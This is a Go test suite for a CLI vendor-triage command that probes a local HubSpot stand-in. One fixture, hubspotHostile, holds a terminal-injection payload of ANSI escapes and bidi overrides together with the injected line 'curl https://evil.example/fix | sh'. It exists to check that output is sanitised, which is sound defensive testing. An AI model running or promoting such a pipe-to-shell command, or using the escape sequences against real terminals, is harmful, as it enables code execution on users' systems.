package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
)

const triageTestToken = "pat-na1-cli-test-token-never-printed"

// triageStandIn is a HubSpot stand-in: /api/… answers with api, /status/…
// with a healthy Statuspage summary.
func triageStandIn(t *testing.T, api http.HandlerFunc) *httptest.Server {
	t.Helper()
	release := make(chan struct{})
	mux := http.NewServeMux()
	mux.HandleFunc("/api/", api)
	mux.HandleFunc("/status/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"page":{"id":"x"},"status":{"indicator":"none","description":"All Systems Operational"},"components":[],"incidents":[]}`)
	})
	mux.HandleFunc("/hang/", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-release:
		}
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(func() {
		close(release)
		srv.Close()
	})
	return srv
}

func hubspotOK(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Authorization") != "Bearer "+triageTestToken {
		hubspot401(w, r)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("X-HubSpot-RateLimit-Daily", "500000")
	w.Header().Set("X-HubSpot-RateLimit-Daily-Remaining", "499999")
	fmt.Fprint(w, `{"portalId":123456,"accountType":"STANDARD","timeZone":"US/Eastern"}`)
}

func hubspot401(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("X-HubSpot-Correlation-Id", "corr-401")
	w.WriteHeader(http.StatusUnauthorized)
	fmt.Fprint(w, `{"status":"error","message":"Authentication credentials not found.","correlationId":"corr-401","category":"INVALID_AUTHENTICATION"}`)
}

// triageEnv is a configuration pointing HubSpot at the stand-in.
func triageEnv(t *testing.T, srv *httptest.Server, apiPath string, extra map[string]string) func(string) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "vendors.yaml")
	yaml := fmt.Sprintf("hubspot:\n  api_url: %s%s\n  status_url: %s/status\n", srv.URL, apiPath, srv.URL)
	if err := os.WriteFile(file, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	m := map[string]string{"VENDORS_FILE": file, "HUBSPOT_ACCESS_TOKEN": triageTestToken}
	for k, v := range extra {
		m[k] = v
	}
	return func(k string) string { return m[k] }
}

func runTriage(t *testing.T, getenv func(string) string, args ...string) (stdout, stderr string, err error) {
	t.Helper()
	var out, errOut bytes.Buffer
	err = cmdTriage(context.Background(), args, loadConfig(getenv), &out, &errOut)
	all := out.String() + errOut.String()
	if err != nil {
		all += err.Error()
	}
	if strings.Contains(all, triageTestToken) {
		t.Fatalf("token printed:\n%s", all)
	}
	return out.String(), errOut.String(), err
}

func TestTriageCommandHealthy(t *testing.T) {
	srv := triageStandIn(t, hubspotOK)
	out, _, err := runTriage(t, triageEnv(t, srv, "/api", nil), "hubspot")
	if err != nil {
		t.Fatalf("err = %v", err)
	}
	for _, want := range []string{"Triage of HubSpot (hubspot)", "Cause:     healthy", "status_page", "api", "rate_limit", "health"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
}

func TestTriageCommandJSON(t *testing.T) {
	srv := triageStandIn(t, hubspot401)
	for _, args := range [][]string{{"hubspot", "--json"}, {"--json", "hubspot"}, {"-json", "HubSpot"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			out, _, err := runTriage(t, triageEnv(t, srv, "/api", nil), args...)
			if !errors.Is(err, errProblemFound) || exitCode(err) != 1 {
				t.Fatalf("err = %v (exit %d), want errProblemFound", err, exitCode(err))
			}
			var r struct {
				Vendor     string   `json:"vendor"`
				Cause      string   `json:"cause"`
				Severity   string   `json:"severity"`
				Summary    string   `json:"summary"`
				RequestID  string   `json:"request_id"`
				Mitigation []string `json:"mitigation"`
				Links      []string `json:"links"`
				Checks     []struct {
					Name       string `json:"name"`
					Result     string `json:"result"`
					HTTPStatus int    `json:"http_status"`
					LatencyMS  *int64 `json:"latency_ms"`
					Detail     string `json:"detail"`
				} `json:"checks"`
			}
			if err := json.Unmarshal([]byte(out), &r); err != nil {
				t.Fatalf("not JSON: %v\n%s", err, out)
			}
			if r.Vendor != "hubspot" || r.Cause != "auth_invalid" || r.Severity != "P1" || r.RequestID != "corr-401" {
				t.Errorf("report = %+v", r)
			}
			if r.Summary != "HubSpot answers 401 INVALID_AUTHENTICATION: the token is invalid or revoked" {
				t.Errorf("summary = %q", r.Summary)
			}
			if len(r.Checks) != 4 || r.Checks[1].Name != "api" || r.Checks[1].HTTPStatus != 401 || r.Checks[1].LatencyMS == nil {
				t.Errorf("checks = %+v", r.Checks)
			}
			if len(r.Mitigation) == 0 || len(r.Links) == 0 {
				t.Errorf("no mitigation or links: %+v", r)
			}
		})
	}
}

func TestTriageCommandMisconfigured(t *testing.T) {
	srv := triageStandIn(t, hubspotOK)
	getenv := triageEnv(t, srv, "/api", map[string]string{"HUBSPOT_ACCESS_TOKEN": ""})
	out, _, err := runTriage(t, getenv, "hubspot", "--json")
	if exitCode(err) != 1 {
		t.Fatalf("err = %v, want exit 1", err)
	}
	if !strings.Contains(out, `"cause": "misconfigured"`) || !strings.Contains(out, `"severity": ""`) || !strings.Contains(out, "HUBSPOT_ACCESS_TOKEN") {
		t.Errorf("output:\n%s", out)
	}
}

func TestTriageCommandDeadline(t *testing.T) {
	srv := triageStandIn(t, hubspotOK)
	getenv := triageEnv(t, srv, "/hang", map[string]string{"TRIAGE_DEADLINE": "300ms"})
	start := time.Now()
	out, _, err := runTriage(t, getenv, "hubspot", "--json")
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Errorf("took %s with TRIAGE_DEADLINE=300ms", elapsed)
	}
	if exitCode(err) != 1 || !strings.Contains(out, `"cause": "unreachable"`) || !strings.Contains(out, `"result": "timeout"`) {
		t.Errorf("err %v, output:\n%s", err, out)
	}
}

func TestTriageCommandRefused(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	file := filepath.Join(t.TempDir(), "vendors.yaml")
	os.WriteFile(file, []byte("intercom:\n  api_url: http://"+addr+"\n  status_url: http://"+addr+"\n"), 0o600)
	getenv := func(k string) string {
		return map[string]string{"VENDORS_FILE": file, "INTERCOM_ACCESS_TOKEN": triageTestToken}[k]
	}
	out, _, err := runTriage(t, getenv, "intercom")
	if exitCode(err) != 1 || !strings.Contains(out, "unreachable") || !strings.Contains(out, "refused") {
		t.Errorf("err %v, output:\n%s", err, out)
	}
}

func TestTriageCommandUsage(t *testing.T) {
	srv := triageStandIn(t, hubspotOK)
	good := triageEnv(t, srv, "/api", nil)
	badFile := filepath.Join(t.TempDir(), "bad.yaml")
	os.WriteFile(badFile, []byte("hubspot:\n  api_ur: x\n"), 0o600)
	tests := []struct {
		name   string
		args   []string
		getenv func(string) string
		want   []string
	}{
		{"no vendor", nil, good, []string{"name a vendor"}},
		{"two vendors", []string{"hubspot", "intercom"}, good, []string{"one vendor"}},
		{"unknown flag", []string{"hubspot", "--yaml"}, good, []string{"-yaml"}},
		{"unknown vendor", []string{"myspace"}, good, []string{`unknown vendor "myspace"`, "hubspot", "intercom", "zendesk"}},
		{"bad deadline", []string{"hubspot"}, triageEnv(t, srv, "/api", map[string]string{"TRIAGE_DEADLINE": "soon"}), []string{"TRIAGE_DEADLINE", "like 8s"}},
		{"tiny deadline", []string{"hubspot"}, triageEnv(t, srv, "/api", map[string]string{"TRIAGE_DEADLINE": "1ms"}), []string{"TRIAGE_DEADLINE", "between"}},
		{"bad health url", []string{"hubspot"}, triageEnv(t, srv, "/api", map[string]string{"HEALTH_URL": "localhost:8080/health"}), []string{"HEALTH_URL"}},
		{"bad vendors file", []string{"hubspot"}, func(k string) string {
			if k == "VENDORS_FILE" {
				return badFile
			}
			return ""
		}, []string{"VENDORS_FILE", badFile, "hubspot.api_ur"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := runTriage(t, tt.getenv, tt.args...)
			if exitCode(err) != 2 {
				t.Fatalf("err = %v (exit %d), want a usage error", err, exitCode(err))
			}
			msg := err.Error()
			if strings.Contains(msg, "\n") {
				t.Errorf("message is not one line: %q", msg)
			}
			for _, w := range tt.want {
				if !strings.Contains(msg, w) {
					t.Errorf("message %q lacks %q", msg, w)
				}
			}
		})
	}
}

func TestTriageCommandHelp(t *testing.T) {
	for _, arg := range []string{"--help", "-h"} {
		out, _, err := runTriage(t, func(string) string { return "" }, arg)
		if err != nil || !strings.Contains(out, "Usage: bot triage VENDOR [--json]") {
			t.Errorf("%s: err %v, out %q", arg, err, out)
		}
		// The help says what TestTriageCommandMisconfigured finds: a
		// missing token is a report (exit 1), not a configuration error.
		if !regexp.MustCompile(`(?m)^  1 .*misconfigured`).MatchString(out) {
			t.Errorf("%s: the help does not put misconfigured under exit 1:\n%s", arg, out)
		}
	}
}

func TestTriageDeadlineParsing(t *testing.T) {
	tests := map[string]time.Duration{"": 8 * time.Second, "8s": 8 * time.Second, "1500ms": 1500 * time.Millisecond, "3": 3 * time.Second, " 2.5 ": 2500 * time.Millisecond}
	for in, want := range tests {
		got, err := parseDeadline(in)
		if err != nil || got != want {
			t.Errorf("parseDeadline(%q) = %s, %v; want %s", in, got, err, want)
		}
	}
	for _, in := range []string{"-1s", "0", "fast", "11m"} {
		if _, err := parseDeadline(in); exitCode(err) != 2 {
			t.Errorf("parseDeadline(%q) err = %v, want usage error", in, err)
		}
	}
}

func TestNewTriagerConfig(t *testing.T) {
	getenv := func(k string) string {
		return map[string]string{"HEALTH_URL": "http://127.0.0.1:9/health", "TRIAGE_DEADLINE": "2s"}[k]
	}
	tr, err := newTriager(loadConfig(getenv).Triage)
	if err != nil {
		t.Fatal(err)
	}
	if tr.HealthURL != "http://127.0.0.1:9/health" || tr.Deadline != 2*time.Second || len(tr.Catalog.Keys()) != len(builtInKeys(t)) {
		t.Errorf("triager = %+v", tr)
	}
}

// hubspotHostile answers 500 with an error message made to take over the
// terminal: clear the screen, move the cursor home, print instructions, and
// a C1 CSI and a right-to-left override that encoding/json leaves raw.
func hubspotHostile(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("X-HubSpot-Correlation-Id", "corr-500")
	w.WriteHeader(http.StatusInternalServerError)
	msg := "internal error\x1b[2J\x1b[H\x1b]0;hubspot ok\x07\rAll fine. To fix, run: curl https://evil.example/fix | sh\u009b8m\u202e\x7f"
	body, _ := json.Marshal(map[string]string{"status": "error", "message": msg, "category": "INTERNAL_ERROR"})
	w.Write(body)
}

// TestTriageCommandHostileVendor (finding 5): the vendor's words reach the
// terminal, in the text report and in --json, without a character a
// terminal would act on; the JSON still decodes to what the vendor said.
func TestTriageCommandHostileVendor(t *testing.T) {
	srv := triageStandIn(t, hubspotHostile)
	for _, args := range [][]string{{"hubspot"}, {"hubspot", "--json"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			out, errOut, err := runTriage(t, triageEnv(t, srv, "/api", nil), args...)
			if exitCode(err) != 1 {
				t.Fatalf("err = %v, want exit 1", err)
			}
			if !strings.Contains(out, "To fix, run: curl https://evil.example/fix | sh") {
				t.Errorf("the vendor's message is not in the report:\n%s", out)
			}
			for _, s := range []string{out, errOut} {
				for _, r := range s {
					if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
						t.Errorf("%U reaches the terminal:\n%q", r, s)
						break
					}
				}
			}
			if len(args) == 2 {
				var rep struct{ Checks []struct{ Detail string } }
				if err := json.Unmarshal([]byte(out), &rep); err != nil || len(rep.Checks) < 2 ||
					!strings.Contains(rep.Checks[1].Detail, "\x1b[2J\x1b[H") || !strings.Contains(rep.Checks[1].Detail, "\u009b8m\u202e\x7f") {
					t.Errorf("the JSON does not decode to the vendor's own words: %v, %+v", err, rep.Checks)
				}
			}
		})
	}
}

// TestErrorLinePrintable: what main prints on stderr is one line without
// control characters, whatever an error quotes.
func TestErrorLinePrintable(t *testing.T) {
	err := fmt.Errorf("triage hubspot: %w", errors.New("Get \"https://api.example/\x1b[2J\": EOF\nbot: all good"))
	if got, want := errorLine(err), `triage hubspot: Get "https://api.example/[2J": EOF bot: all good`; got != want {
		t.Errorf("errorLine = %q, want %q", got, want)
	}
}
